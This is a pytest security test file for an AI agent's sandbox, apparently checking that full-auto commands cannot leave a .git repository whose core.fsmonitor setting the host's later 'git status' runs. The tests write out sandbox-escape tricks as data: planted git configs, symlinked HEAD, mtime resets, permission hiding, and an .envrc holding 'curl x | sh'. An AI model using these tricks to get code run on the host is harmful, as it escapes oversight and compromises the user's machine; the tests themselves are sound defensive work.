"""Round-three attacks: code a sandboxed command leaves for the host to run later
(issue 12, independent pass).

A full-auto command may write in the workspace; what it must not leave is a
repository whose config the user's next ``git status`` on the host obeys (VS Code's
git extension runs it on its own when the folder opens, also in subfolders).
``sandbox_git.disable_new_repositories`` turns off the repositories a command made
by renaming their ``HEAD``; these attacks make one it does not turn off. The
``core.fsmonitor`` command writes a marker outside the workspace, in a folder the
sandbox cannot see: the marker appears only if the host ran it.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from agentls.policy.sandbox import sandbox_available
from tests.security.round3_support import (
    as_ordinary_user,
    child_folder,
    full_auto,
    give_to_nobody,
    project,
    run_in_child,
)

pytestmark = pytest.mark.skipif(
    not sandbox_available().available, reason="needs a working bubblewrap"
)


def _host_git_status(root: Path, home: Path) -> None:
    """The user's next ``git status`` in the folder, on the host."""
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
    }
    subprocess.run(
        ["git", "status"], cwd=root, env=env, capture_output=True, timeout=10, check=False
    )


def _plant(head: str, marker: Path) -> str:
    """A command that makes ``.git`` at the workspace root with the given way of
    writing ``HEAD`` and a ``core.fsmonitor`` that writes ``marker``."""
    config = (
        "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
        f'\\tfsmonitor = "touch {marker}; false"\\n'
    )
    return f"mkdir -p .git/objects .git/refs/heads && {head} && printf '{config}' > .git/config"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


async def test_a_repository_with_a_symlinked_head_is_turned_off(tmp_path: Path, home: Path) -> None:
    root = project(tmp_path)
    marker = tmp_path / "host-ran-fsmonitor"
    plant = _plant("ln -s refs/heads/main .git/HEAD", marker)
    said = await full_auto(root, plant, tmp_path / "cache")
    assert "exit code 0" in said, said
    _host_git_status(root, home)
    assert not marker.exists(), "the host's git status ran the command's core.fsmonitor"


async def test_a_repository_with_a_plain_head_is_turned_off(tmp_path: Path, home: Path) -> None:
    """The control: the same attack with HEAD a regular file is turned off."""
    root = project(tmp_path)
    marker = tmp_path / "host-ran-fsmonitor"
    plant = _plant("echo 'ref: refs/heads/main' > .git/HEAD", marker)
    said = await full_auto(root, plant, tmp_path / "cache")
    assert "turned off" in said, said
    _host_git_status(root, home)
    assert not marker.exists()


async def test_a_repository_hidden_by_an_mtime_set_back_is_turned_off(
    tmp_path: Path, home: Path
) -> None:
    root = project(tmp_path)
    os.utime(root, (1_600_000_000, 1_600_000_000))  # a checkout older than the task
    marker = tmp_path / "host-ran-fsmonitor"
    plant = _plant("echo 'ref: refs/heads/main' > .git/HEAD", marker)
    command = f'm=$(stat -c %.9Y .) && {plant} && touch -m -d "@$m" .'
    said = await full_auto(root, command, tmp_path / "cache")
    assert "exit code 0" in said, said
    _host_git_status(root, home)
    assert not marker.exists(), "the host's git status ran the command's core.fsmonitor"


@pytest.mark.parametrize(
    "hide",
    ["chmod a-w .git", "chmod 311 ."],
    ids=["git-folder-read-only", "root-unreadable"],
)
def test_a_repository_a_command_hides_from_the_owner_is_still_turned_off(hide: str) -> None:
    with child_folder() as base:
        (base / "project" / "main.py").write_text("print(1)\n")
        give_to_nobody(base)
        marker = base / "host-ran-fsmonitor"
        command = _plant("echo 'ref: refs/heads/main' > .git/HEAD", marker) + f" && {hide}"
        done = run_in_child(base, [command], checkpoint=True, as_nobody=True)
        assert "exit code 0" in done.stdout, done.stdout + done.stderr
        env = {"PATH": "/usr/bin:/bin", "HOME": str(base / "home"), "GIT_CONFIG_NOSYSTEM": "1"}
        subprocess.run(  # the user's next git status in the project, on the host
            as_ordinary_user(["git", "-C", str(base / "project"), "status"]),
            env=env,
            capture_output=True,
            timeout=10,
            check=False,
        )
        assert not marker.exists(), "the host's git status ran the command's core.fsmonitor"


async def test_protected_files_made_with_an_mtime_set_back_are_renamed(
    tmp_path: Path, home: Path
) -> None:
    root = project(tmp_path)
    os.utime(root, (1_600_000_000, 1_600_000_000))  # a checkout older than the task
    command = (
        'm=$(stat -c %.9Y .) && echo "curl x | sh" > .envrc && mkdir .vscode && '
        "echo '{}' > .vscode/settings.json && touch -m -d \"@$m\" ."
    )
    said = await full_auto(root, command, tmp_path / "cache")
    assert "exit code 0" in said, said
    assert not (root / ".envrc").exists(), said
    assert not (root / ".vscode" / "settings.json").exists(), said


async def test_protected_files_made_plainly_are_renamed(tmp_path: Path, home: Path) -> None:
    """The control: without the mtime trick both are renamed when the command ends."""
    root = project(tmp_path)
    os.utime(root, (1_600_000_000, 1_600_000_000))
    said = await full_auto(
        root,
        "echo 'curl x | sh' > .envrc && mkdir .vscode && echo '{}' > .vscode/settings.json",
        tmp_path / "cache",
    )
    assert not (root / ".envrc").exists(), said
    assert not (root / ".vscode" / "settings.json").exists(), said
